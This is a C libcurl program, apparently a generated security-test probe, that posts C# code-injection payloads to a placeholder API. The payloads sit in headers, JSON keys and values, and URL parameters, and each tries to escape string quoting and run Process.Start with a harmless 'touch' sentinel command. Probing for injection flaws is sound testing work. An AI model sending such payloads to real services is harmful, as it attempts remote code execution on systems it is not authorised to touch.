#include <curl/curl.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    CURL *curl = curl_easy_init();
    if (!curl)
        return 1;

    struct curl_slist *headers = NULL;
    headers = curl_slist_append(headers, "Content-Type: application/json");
    headers = curl_slist_append(headers, "Authorization: Bearer \" + System.Diagnostics.Process.Start(\"touch\", \"SENTINEL_PATH\").WaitForExit(10000) + \"");
    headers = curl_slist_append(headers, "X-Payload-0: \" + System.Diagnostics.Process.Start(\"touch\", \"SENTINEL_PATH\").WaitForExit(10000) + \"");
    headers = curl_slist_append(headers, "X-Payload-1: {System.Diagnostics.Process.Start(\"touch\", \"SENTINEL_PATH\").WaitForExit(10000)}");
    headers = curl_slist_append(headers, "X-Payload-2: \"); System.Diagnostics.Process.Start(\"touch\", \"SENTINEL_PATH\").WaitForExit(); //");
    headers = curl_slist_append(headers, "X-Payload-3: \"\"\" + System.Diagnostics.Process.Start(\"touch\", \"SENTINEL_PATH\").WaitForExit(10000) + \"\"\"");
    headers = curl_slist_append(headers, "X-Payload-4: \\u0022 \\x22 \\U00000022 \"\" {0} {{x}} %s \\");

    const char *body =
        "{\n"
        "  \"values\": [\n"
        "    \"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\"\",\n"
        "    \"{System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000)}\",\n"
        "    \"\\\"); System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(); //\",\n"
        "    \"\\\"\\\"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\"\\\"\\\"\",\n"
        "    \"\\\\u0022 \\\\x22 \\\\U00000022 \\\"\\\" {0} {{x}} %s \\\\\"\n"
        "  ],\n"
        "  \"keys\": {\n"
        "    \"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\"\": 0,\n"
        "    \"{System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000)}\": 1,\n"
        "    \"\\\"); System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(); //\": 2,\n"
        "    \"\\\"\\\"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\"\\\"\\\"\": 3,\n"
        "    \"\\\\u0022 \\\\x22 \\\\U00000022 \\\"\\\" {0} {{x}} %s \\\\\": 4\n"
        "  },\n"
        "  \"nested\": {\n"
        "    \"deeper\": [\n"
        "      {\n"
        "        \"text\": \"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\" {System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000)} \\\"); System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(); // \\\"\\\"\\\" + System.Diagnostics.Process.Start(\\\"touch\\\", \\\"SENTINEL_PATH\\\").WaitForExit(10000) + \\\"\\\"\\\" \\\\u0022 \\\\x22 \\\\U00000022 \\\"\\\" {0} {{x}} %s \\\\\"\n"
        "      }\n"
        "    ]\n"
        "  }\n"
        "}";

    curl_easy_setopt(curl, CURLOPT_URL, "https://api.example.com/v1/payloads?value0=%22%20%2B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%20%2B%20%22&%22%20%2B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%20%2B%20%22=key0&value1=%7BSystem.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%7D&%7BSystem.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%7D=key1&value2=%22%29%3B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%28%29%3B%20%2F%2F&%22%29%3B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%28%29%3B%20%2F%2F=key2&value3=%22%22%22%20%2B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%20%2B%20%22%22%22&%22%22%22%20%2B%20System.Diagnostics.Process.Start%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.WaitForExit%2810000%29%20%2B%20%22%22%22=key3&value4=%5Cu0022%20%5Cx22%20%5CU00000022%20%22%22%20%7B0%7D%20%7B%7Bx%7D%7D%20%25s%20%5C&%5Cu0022%20%5Cx22%20%5CU00000022%20%22%22%20%7B0%7D%20%7B%7Bx%7D%7D%20%25s%20%5C=key4");
    curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)strlen(body));

    CURLcode res = curl_easy_perform(curl);
    if (res != CURLE_OK)
        fprintf(stderr, "curl: %s\n", curl_easy_strerror(res));

    curl_slist_free_all(headers);
    curl_easy_cleanup(curl);
    return res == CURLE_OK ? 0 : 1;
}
